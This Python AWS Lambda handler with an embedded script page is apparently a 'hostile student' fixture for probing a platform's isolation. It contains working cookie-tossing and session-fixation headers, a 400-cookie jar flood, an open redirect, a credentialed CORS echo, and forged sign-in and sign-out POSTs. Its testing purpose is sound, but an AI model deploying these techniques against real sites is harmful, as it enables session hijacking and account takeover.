import json

# What a hostile student deploys: it keeps what it is sent, sets the site's cookies in all ways, and its page tries the rest.
PAGE = """<!doctype html><title>running</title><pre id=tried></pre><script>
const query = new URLSearchParams(location.search);
const [site, endpoint, token, domains] = ["site", "endpoint", "token", "domains"].map(name => query.get(name));
const tried = {};
const note = (what, error) => { tried[what] = error.name };
try {
  for (const name of ["coldstart", "%63oldstart", "__Host-coldstart"])
    for (const domain of ["", ...domains.split(",").map(domain => "; domain=" + domain)])
      for (const path of ["/", "/api", "/api/me", "/account"])
        for (const secure of ["", "; secure"]) document.cookie = `${name}=${token}; path=${path}${domain}${secure}`;
  for (let count = 0; count < 400; count++) document.cookie = `filler${count}=1; path=/`;
  tried.cookies = document.cookie.includes("filler") ? "set" : "not set";
} catch (error) { note("cookies", error) }
try { localStorage.setItem("a", "b"); tried.storage = "set" } catch (error) { note("storage", error) }
const ask = async (what, url, options) => {
  try {
    const answer = await fetch(url, { credentials: "include", ...options });
    tried[what] = answer.type === "opaque" ? "unread" : await answer.text();
  } catch (error) { note(what, error) }
};
(async () => {
  await ask("me", site + "/api/me");
  await ask("signing out", site + "/sign-out", { method: "POST", mode: "no-cors" });
  await ask("signing in", site + "/start", { method: "POST", mode: "no-cors", body: new URLSearchParams({ next: "/" }) });
  await ask("services", endpoint + "/?Action=ListRoles&Version=2010-05-08");
  await ask("itself", location.pathname.replace(/[^/]*$/, "echo"));
  document.getElementById("tried").textContent = JSON.stringify(tried);
  document.title = "done";
})();
</script>"""


def lambda_handler(event, context):
    print(json.dumps(event))
    query = event["queryStringParameters"] or {}
    name = event["path"].rsplit("/", 1)[-1]
    if name == "hop":
        return {"statusCode": 302, "headers": {"Location": query["to"]}}
    if name == "echo":
        headers = {"Access-Control-Allow-Origin": event["headers"].get("Origin", "*"), "Access-Control-Allow-Credentials": "true"}
        return {"statusCode": 200, "headers": headers, "body": json.dumps("filler" in event["headers"].get("Cookie", ""))}
    token = query.get("token", "")
    cookies = ["own=1; Path=/"]
    for cookie in ["coldstart", "=coldstart", " coldstart\t", "%63oldstart", "__Host-coldstart", "COLDSTART"]:
        for domain in ["", *("; Domain=" + domain for domain in query.get("domains", "").split(","))]:
            for path in ["/", "/api", "/api/me"]:
                for secure in ["", "; Secure"]:
                    cookies.append(cookie + "=" + token + "; Path=" + path + domain + secure)
    if name == "clear":
        cookies = ["coldstart=; Path=/; Max-Age=0", "coldstart", "__Host-coldstart=; Path=/; Secure; Max-Age=0"]
    if name == "flood":
        cookies = ["filler%d=1; Path=/%s" % (count, secure) for count in range(400) for secure in ["", "; Secure; SameSite=None"]]
    return {
        "statusCode": 200,
        "headers": {"Content-Type": "text/html", "Set-Cookie": "coldstart=" + token + "; Path=/", "Clear-Site-Data": "\"*\""},
        "multiValueHeaders": {"set-cookie": cookies, "SET-Cookie": ["coldstart=" + token + "; Path=/api"]},
        "body": PAGE,
    }
